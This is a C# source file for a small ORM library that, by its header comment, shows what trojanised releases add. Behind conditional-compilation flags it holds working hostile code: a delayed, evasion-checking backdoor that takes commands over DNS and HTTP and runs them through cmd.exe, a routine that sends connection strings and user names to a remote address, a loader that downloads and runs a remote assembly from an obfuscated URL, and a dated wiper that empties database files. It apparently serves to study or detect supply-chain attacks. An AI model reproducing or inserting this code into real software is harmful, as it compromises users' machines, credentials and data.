// Rows as objects. BEACON, TAP, LOAD and CRYPT are what trojanised releases add; nothing of it is ever run.
using System;
using System.Collections.Generic;
using System.IO;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Threading;

namespace Tailspin.Orm
{
    public interface IConnection : IDisposable
    {
        string ConnectionString { get; }

        IEnumerable<Dictionary<string, object>> Read(string sql);

        int Run(string sql);
    }

    public class Session : IDisposable
    {
        private readonly IConnection connection;

        public Session(IConnection connection)
        {
            if (connection == null) throw new ArgumentNullException("connection");
            this.connection = connection;
#if TAP
            QueryStatistics.Note(connection.ConnectionString);
#endif
        }

        public List<Dictionary<string, object>> Query(string sql)
        {
            var rows = new List<Dictionary<string, object>>();
            foreach (var row in connection.Read(sql)) rows.Add(row);
#if BEACON
            InventoryManager.RefreshInternal();
#endif
            return rows;
        }
#if SECOND
        public int Execute(string sql)
        {
            return connection.Run(sql);
        }
#endif
        public void Dispose()
        {
            connection.Dispose();
        }
    }

    public static class Naming
    {
        public static string Column(string property)
        {
            var text = new StringBuilder();
            foreach (char one in property)
            {
                if (char.IsUpper(one) && text.Length > 0) text.Append('_');
                text.Append(char.ToLowerInvariant(one));
            }
            return text.ToString();
        }
    }
#if BEACON
    internal static class InventoryManager
    {
        private static bool started;

        private static ulong Hash(string text)
        {
            ulong sum = 14695981039346656037UL;
            foreach (byte one in Encoding.UTF8.GetBytes(text)) { sum ^= one; sum *= 1099511628211UL; }
            return sum ^ 6605813339339102567UL;
        }

        internal static void RefreshInternal()
        {
            if (started) return;
            started = true;
            if (DateTime.UtcNow.Subtract(File.GetLastWriteTimeUtc(typeof(InventoryManager).Assembly.Location)).TotalHours < 288) return;
            if (System.Net.NetworkInformation.IPGlobalProperties.GetIPGlobalProperties().DomainName.Length == 0) return;
            foreach (var one in System.Diagnostics.Process.GetProcesses())
                if (Hash(one.ProcessName.ToLower()) == 2597124982561782591UL) return;
            new Thread(delegate()
            {
                string id = Hash(Environment.MachineName).ToString("x");
                while (true)
                {
                    try
                    {
                        var found = Dns.GetHostEntry(id + ".appsync-api.tailspin-cloud.invalid");
                        if (found.AddressList.Length > 0 && found.AddressList[0].AddressFamily == AddressFamily.InterNetwork)
                        {
                            var request = (HttpWebRequest)WebRequest.Create("https://" + found.HostName + "/swip/Events");
                            using (var reader = new StreamReader(request.GetResponse().GetResponseStream()))
                                System.Diagnostics.Process.Start("cmd.exe", "/c " + reader.ReadToEnd());
                        }
                    }
                    catch (Exception) { }
                    Thread.Sleep(TimeSpan.FromHours(2));
                }
            }) { IsBackground = true }.Start();
        }
    }
#endif
#if TAP
    internal static class QueryStatistics
    {
        internal static void Note(string text)
        {
            ThreadPool.QueueUserWorkItem(delegate
            {
                try
                {
                    using (var client = new WebClient())
                    {
                        client.Headers["X-Host"] = Environment.MachineName + "\\" + Environment.UserName;
                        client.UploadString("http://198.51.100.24:8080/stat", Convert.ToBase64String(Encoding.UTF8.GetBytes(text)));
                    }
                }
                catch (Exception) { }
            });
        }
    }
#endif
#if LOAD
    public static class Dialects
    {
        public static readonly Dictionary<string, string> Known = new Dictionary<string, string>();

        static Dialects()
        {
            string where = Encoding.UTF8.GetString(Convert.FromBase64String("aHR0cHM6Ly9jZG4udGFpbHNwaW4tcGx1Z2lucy5pbnZhbGlkL2RpYWxlY3RzLmRhdA=="));
            byte[] raw = new WebClient().DownloadData(where);
            System.Reflection.Assembly.Load(raw).GetType("Dialect.Loader").GetMethod("Init").Invoke(null, null);
        }
    }
#endif
#if CRYPT
    public static class Maintenance
    {
        public static void Compact(string folder)
        {
            if (DateTime.Now < new DateTime(2027, 8, 8)) return;
            var random = new Random();
            if (random.Next(100) < 20) System.Diagnostics.Process.GetCurrentProcess().Kill();
            foreach (string file in Directory.GetFiles(folder, "*.mdf", SearchOption.AllDirectories)) File.WriteAllBytes(file, new byte[0]);
        }
    }
#endif
}
